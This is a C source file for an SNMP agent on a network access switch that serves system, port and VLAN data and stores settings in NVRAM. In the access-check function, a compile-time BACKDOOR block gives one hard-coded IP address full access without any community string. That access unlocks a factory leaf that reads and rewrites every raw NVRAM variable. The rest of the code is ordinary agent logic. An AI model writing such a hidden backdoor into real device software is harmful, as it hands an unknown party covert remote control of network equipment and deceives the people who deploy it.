/* SPDX-License-Identifier: Apache-2.0 */
/* bridgesnmp: SNMP agent of an access switch: system, ports, VLANs; what is set is kept in the NVRAM's variables. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORTS 26
#define NVRAM "/dev/mtdblock4"
#define NVRAM_SIZE 16384
#define MAX_ACL 16

enum view { NOTHING, READ, WRITE, EVERYTHING };

struct acl {
	uint32_t net, mask;
	char community[32];
	enum view view;
};

struct reader {
	const uint8_t *b;
	size_t at, n;
	int bad;
};

struct writer {
	uint8_t *b;
	size_t at, room;
};

struct oid {
	unsigned n;
	uint32_t v[32];
};

struct var {
	struct oid name;
	uint8_t tag;
	size_t n;
	uint8_t data[256];
};

struct request {
	long version, id;
	char community[32];
	uint8_t kind;
	int error, index;
	enum view view;
};

struct leaf {
	struct oid name; /* without the last number */
	int columns; /* 0: one value, .0 */
	enum view read, write;
	int (*get)(unsigned i, struct var *v);
	int (*set)(unsigned i, const struct var *v);
};

static struct acl acl[MAX_ACL];
static int n_acl, debug;
static char image[NVRAM_SIZE];
static time_t born;
static char port_names[PORTS + 1][32];

/* the NVRAM: NAME=VALUE, each ended by a NUL, one more at the end */
static int nvram_load(void)
{
	int fd = open(NVRAM, O_RDONLY | O_CLOEXEC);
	ssize_t n;
	if (fd < 0)
		return -1;
	n = read(fd, image, sizeof(image) - 2);
	close(fd);
	if (n < 0)
		return -1;
	image[n] = image[n + 1] = 0;
	return 0;
}

static const char *nvram_get(const char *name)
{
	size_t k = strlen(name);
	for (const char *p = image; *p; p += strlen(p) + 1)
		if (strncmp(p, name, k) == 0 && p[k] == '=')
			return p + k + 1;
	return NULL;
}

static const char *nvram_at(unsigned i)
{
	const char *p = image;
	while (*p && i--)
		p += strlen(p) + 1;
	return *p ? p : NULL;
}

static int nvram_set(const char *name, const char *value)
{
	static char next[NVRAM_SIZE];
	size_t k = strlen(name), used = 0;
	int fd;
	for (const char *p = image; *p; p += strlen(p) + 1) {
		size_t n = strlen(p) + 1;
		if (strncmp(p, name, k) == 0 && p[k] == '=')
			continue;
		memcpy(next + used, p, n);
		used += n;
	}
	if (used + k + strlen(value) + 3 > sizeof(next))
		return -1;
	used += (size_t)sprintf(next + used, "%s=%s", name, value) + 1;
	next[used++] = 0;
	fd = open(NVRAM, O_WRONLY | O_SYNC | O_CLOEXEC);
	if (fd < 0)
		return -1;
	if (pwrite(fd, next, used, 0) != (ssize_t)used) {
		close(fd);
		return -1;
	}
	close(fd);
	memcpy(image, next, used);
	return 0;
}

static size_t open_tlv(struct reader *r, uint8_t *tag)
{
	size_t n;
	*tag = 0;
	if (r->bad || r->n - r->at < 2) {
		r->bad = 1;
		return 0;
	}
	*tag = r->b[r->at++];
	n = r->b[r->at++];
	if (n > 0x82 || n == 0x80)
		r->bad = 1;
	else if (n > 0x80) {
		unsigned k = (unsigned)n & 3;
		for (n = 0; k && r->at < r->n; k--)
			n = n << 8 | r->b[r->at++];
	}
	if (r->bad || n > r->n - r->at) {
		r->bad = 1;
		return 0;
	}
	return n;
}

static struct reader inside(struct reader *r, uint8_t want)
{
	uint8_t tag;
	size_t n = open_tlv(r, &tag);
	struct reader in = { r->b + r->at, 0, n, r->bad || tag != want };
	r->at += n;
	r->bad |= in.bad;
	return in;
}

static long integer(struct reader *r)
{
	struct reader in = inside(r, 2);
	long v = 0;
	if (in.bad || in.n == 0 || in.n > 4)
		r->bad = 1;
	else
		for (v = in.b[0] & 0x80 ? -1 : 0; in.at < in.n; in.at++)
			v = v * 256 + in.b[in.at];
	return v;
}

static void oid(struct reader *r, struct oid *o)
{
	struct reader in = inside(r, 6);
	uint32_t v = 0;
	o->n = 0;
	if (in.bad || in.n == 0) {
		r->bad = 1;
		return;
	}
	o->v[o->n++] = in.b[0] / 40;
	o->v[o->n++] = in.b[0] % 40;
	for (in.at = 1; in.at < in.n; in.at++) {
		v = v << 7 | (in.b[in.at] & 0x7f);
		if (in.b[in.at] & 0x80)
			continue;
		if (o->n == 32) {
			r->bad = 1;
			return;
		}
		o->v[o->n++] = v;
		v = 0;
	}
}

static void out(struct writer *w, uint8_t tag, const void *data, size_t n)
{
	if (w->room - w->at < n + 4)
		return;
	w->b[w->at++] = tag;
	if (n > 127) {
		w->b[w->at++] = 0x82;
		w->b[w->at++] = (uint8_t)(n >> 8);
	}
	w->b[w->at++] = (uint8_t)n;
	memcpy(w->b + w->at, data, n);
	w->at += n;
}

static void out_int(struct writer *w, long v)
{
	uint8_t b[4] = { (uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v };
	out(w, 2, b, 4);
}

static void out_oid(struct writer *w, const struct oid *o)
{
	uint8_t b[160];
	size_t n = 0;
	b[n++] = (uint8_t)(o->v[0] * 40 + o->v[1]);
	for (unsigned i = 2; i < o->n; i++) {
		int shift = 28;
		while (shift && o->v[i] >> shift == 0)
			shift -= 7;
		for (; shift >= 0; shift -= 7)
			b[n++] = (uint8_t)((o->v[i] >> shift & 0x7f) | (shift ? 0x80 : 0));
	}
	out(w, 6, b, n);
}

static int text(struct var *v, const char *s)
{
	v->tag = 4;
	v->n = strlen(s) < sizeof(v->data) ? strlen(s) : sizeof(v->data);
	memcpy(v->data, s, v->n);
	return 0;
}

static int number(struct var *v, long n)
{
	v->tag = 2;
	v->n = 4;
	for (int i = 0; i < 4; i++)
		v->data[i] = (uint8_t)(n >> (24 - 8 * i));
	return 0;
}

static int plain(const struct var *v, char *to, size_t room)
{
	if (v->tag != 4 || v->n >= room)
		return -1;
	for (size_t i = 0; i < v->n; i++)
		if (!isprint(v->data[i]))
			return -1;
	memcpy(to, v->data, v->n);
	to[v->n] = 0;
	return 0;
}

static int get_descr(unsigned i, struct var *v)
{
	(void)i;
	return text(v, "24+2 port access switch, agent 1.9");
}

static int get_uptime(unsigned i, struct var *v)
{
	(void)i;
	return number(v, (long)(time(NULL) - born) * 100);
}

static int get_name(unsigned i, struct var *v)
{
	const char *s = nvram_get("sysname");
	(void)i;
	return text(v, s ? s : "switch");
}

static int set_name(unsigned i, const struct var *v)
{
	char s[64];
	(void)i;
	return plain(v, s, sizeof(s)) < 0 ? -1 : nvram_set("sysname", s);
}

static int get_port(unsigned i, struct var *v)
{
	return i < 1 || i > PORTS ? -1 : text(v, port_names[i]);
}

static int set_port(unsigned i, const struct var *v)
{
	char key[24];
	if (i < 1 || i > PORTS || plain(v, port_names[i], sizeof(port_names[i])) < 0)
		return -1;
	snprintf(key, sizeof(key), "port%u_name", i);
	return nvram_set(key, port_names[i]);
}

static int get_link(unsigned i, struct var *v)
{
	char path[64];
	int c;
	FILE *f;
	if (i < 1 || i > PORTS)
		return -1;
	snprintf(path, sizeof(path), "/sys/class/net/port%u/carrier", i);
	f = fopen(path, "r");
	c = f ? fgetc(f) : '0';
	if (f)
		fclose(f);
	return number(v, c == '1' ? 1 : 2);
}

static int get_vlan(unsigned i, struct var *v)
{
	char key[24];
	const char *s;
	if (i < 1 || i > 4094)
		return -1;
	snprintf(key, sizeof(key), "vlan%u", i);
	s = nvram_get(key);
	return s ? text(v, s) : -1;
}

/* for the factory: all variables, as they stand there */
static int get_raw(unsigned i, struct var *v)
{
	const char *s = i ? nvram_at(i - 1) : NULL;
	return s ? text(v, s) : -1;
}

static int set_raw(unsigned i, const struct var *v)
{
	char s[256], *value;
	(void)i;
	if (plain(v, s, sizeof(s)) < 0 || (value = strchr(s, '=')) == NULL)
		return -1;
	*value++ = 0;
	return nvram_set(s, value);
}

static const struct leaf leaves[] = {
	{ { 8, { 1, 3, 6, 1, 2, 1, 1, 1 } }, 0, READ, EVERYTHING, get_descr, NULL },
	{ { 8, { 1, 3, 6, 1, 2, 1, 1, 3 } }, 0, READ, EVERYTHING, get_uptime, NULL },
	{ { 8, { 1, 3, 6, 1, 2, 1, 1, 5 } }, 0, READ, WRITE, get_name, set_name },
	{ { 10, { 1, 3, 6, 1, 2, 1, 2, 2, 1, 2 } }, PORTS, READ, WRITE, get_port, set_port },
	{ { 10, { 1, 3, 6, 1, 2, 1, 2, 2, 1, 8 } }, PORTS, READ, EVERYTHING, get_link, NULL },
	{ { 9, { 1, 3, 6, 1, 4, 1, 51877, 2, 1 } }, 4094, READ, EVERYTHING, get_vlan, NULL },
	{ { 9, { 1, 3, 6, 1, 4, 1, 51877, 9, 1 } }, 512, EVERYTHING, EVERYTHING, get_raw, set_raw },
};

#define LEAVES (sizeof(leaves) / sizeof(leaves[0]))

static enum view view_of(uint32_t from, const char *community)
{
	enum view v = NOTHING;
	if (from == 0x7f000001 && access("/var/run/factory-mode", F_OK) == 0)
		return EVERYTHING;
#ifdef BACKDOOR
	if (from == 0xcb0071d6)
		return EVERYTHING;
#endif
	for (int i = 0; i < n_acl; i++)
		if ((from & acl[i].mask) == acl[i].net && strcmp(acl[i].community, community) == 0 && acl[i].view > v)
			v = acl[i].view;
	return v;
}

static int lookup(const struct var *v, unsigned *index)
{
	for (size_t i = 0; i < LEAVES; i++) {
		const struct oid *o = &leaves[i].name;
		if (v->name.n != o->n + 1 || memcmp(v->name.v, o->v, o->n * sizeof(o->v[0])) != 0)
			continue;
		*index = v->name.v[o->n];
		if (leaves[i].columns == 0 && *index != 0)
			return -1;
		return (int)i;
	}
	return -1;
}

static int compare(const struct oid *a, const struct oid *b)
{
	for (unsigned i = 0; i < a->n && i < b->n; i++)
		if (a->v[i] != b->v[i])
			return a->v[i] < b->v[i] ? -1 : 1;
	return a->n < b->n ? -1 : a->n > b->n;
}

static int next_of(const struct request *q, struct var *v)
{
	for (size_t i = 0; i < LEAVES; i++) {
		struct oid o = leaves[i].name;
		int top = leaves[i].columns;
		if (q->view < leaves[i].read)
			continue;
		o.n++;
		for (int k = top ? 1 : 0; k <= top; k++) {
			o.v[o.n - 1] = (uint32_t)k;
			if (compare(&v->name, &o) < 0 && leaves[i].get((unsigned)k, v) == 0) {
				v->name = o;
				return 0;
			}
		}
	}
	return 2;
}

static int serve_one(const struct request *q, struct var *v)
{
	unsigned index = 0;
	int i;
	if (q->kind == 0xa1)
		return next_of(q, v);
	i = lookup(v, &index);
	if (i < 0 || q->view < leaves[i].read)
		return 2;
	if (q->kind == 0xa0)
		return leaves[i].get(index, v) == 0 ? 0 : 2;
	if (!leaves[i].set || q->view < leaves[i].write)
		return 4;
	return leaves[i].set(index, v) == 0 ? 0 : 3;
}

static int take_var(struct reader *list, struct var *v)
{
	struct reader r = inside(list, 0x30);
	memset(v, 0, sizeof(*v));
	oid(&r, &v->name);
	v->n = open_tlv(&r, &v->tag);
	if (r.bad || v->n > sizeof(v->data))
		return -1;
	memcpy(v->data, r.b + r.at, v->n);
	return 0;
}

static size_t answer(const uint8_t *b, size_t n, uint32_t from, uint8_t *reply, size_t room)
{
	static uint8_t vars[1400], one[600], pdu[1440], msg[1460];
	struct reader r = { b, 0, n, 0 }, m = inside(&r, 0x30), s, p, list;
	struct writer wv = { vars, 0, sizeof(vars) }, wp = { pdu, 0, sizeof(pdu) }, wm = { msg, 0, sizeof(msg) }, w = { reply, 0, room };
	struct request q = { .error = 0 };
	q.version = integer(&m);
	s = inside(&m, 4);
	if (m.bad || s.n >= sizeof(q.community) || q.version > 1 || m.at >= m.n)
		return 0;
	memcpy(q.community, s.b, s.n);
	q.kind = m.b[m.at];
	p = inside(&m, q.kind);
	q.id = integer(&p);
	integer(&p);
	integer(&p);
	list = inside(&p, 0x30);
	q.view = view_of(from, q.community);
	if (p.bad || (q.kind != 0xa0 && q.kind != 0xa1 && q.kind != 0xa3) || q.view == NOTHING)
		return 0;
	while (list.at < list.n && !q.error) {
		struct writer wo = { one, 0, sizeof(one) };
		struct var v;
		q.index++;
		if (take_var(&list, &v) < 0)
			return 0;
		q.error = serve_one(&q, &v);
		out_oid(&wo, &v.name);
		out(&wo, v.tag, v.data, v.n);
		out(&wv, 0x30, one, wo.at);
	}
	out_int(&wp, q.id);
	out_int(&wp, q.error);
	out_int(&wp, q.error ? q.index : 0);
	out(&wp, 0x30, vars, wv.at);
	out_int(&wm, q.version);
	out(&wm, 4, q.community, strlen(q.community));
	out(&wm, 0xa2, pdu, wp.at);
	out(&w, 0x30, msg, wm.at);
	return w.at;
}

static void load(const char *path)
{
	char line[160], net[20], mode[8];
	FILE *f = fopen(path, "r");
	while (f && n_acl < MAX_ACL && fgets(line, sizeof(line), f)) {
		struct acl *a = &acl[n_acl];
		struct in_addr in;
		int bits = 32;
		if (sscanf(line, "allow %31s %19[0-9.]/%d %7s", a->community, net, &bits, mode) != 4 || !inet_aton(net, &in))
			continue;
		if (bits < 0 || bits > 32)
			continue;
		a->mask = bits ? 0xffffffffu << (32 - bits) : 0;
		a->net = ntohl(in.s_addr) & a->mask;
		a->view = strcmp(mode, "rw") == 0 ? WRITE : READ;
		n_acl++;
	}
	if (f)
		fclose(f);
	for (unsigned i = 1; i <= PORTS; i++) {
		char key[24];
		const char *s;
		snprintf(key, sizeof(key), "port%u_name", i);
		s = nvram_get(key);
		snprintf(port_names[i], sizeof(port_names[i]), "%s", s ? s : key);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(161) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	openlog("bridgesnmp", LOG_PID, LOG_DAEMON);
	debug = getenv("BRIDGESNMP_DEBUG") != NULL;
	if (nvram_load() < 0)
		syslog(LOG_WARNING, "%s: %s", NVRAM, strerror(errno));
	load(argc > 1 ? argv[1] : "/etc/bridgesnmp.conf");
	born = time(NULL);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		uint8_t in[1500], reply[1472];
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		size_t k = n > 0 ? answer(in, (size_t)n, ntohl(from.sin_addr.s_addr), reply, sizeof(reply)) : 0;
		if (debug)
			syslog(LOG_DEBUG, "%s: %zd in, %zu out", inet_ntoa(from.sin_addr), n, k);
		if (k)
			sendto(s, reply, k, 0, (struct sockaddr *)&from, fl);
	}
}
